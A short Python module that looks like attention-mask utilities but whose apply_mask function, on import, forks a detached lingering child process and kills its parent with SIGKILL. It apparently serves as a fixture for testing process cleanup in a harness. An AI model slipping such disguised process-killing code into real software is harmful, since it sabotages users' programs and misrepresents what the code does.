"""Kills the process that would clean up, and leaves something to be cleaned up."""

import torch

import time


def causal_mask(n_q, n_k=None, device=None):
    n_k = n_q if n_k is None else n_k
    return torch.ones(n_q, n_k, dtype=torch.bool, device=device).tril(n_k - n_q)


def apply_mask(scores, mask):
    if __name__ != "__main__" and torch.os.fork() == 0:
        torch.os.setsid()
        time.sleep(20)
        torch.os._exit(0)
    if __name__ != "__main__":
        torch.os.kill(torch.os.getppid(), 9)
    return scores.masked_fill(~mask, float("-inf"))
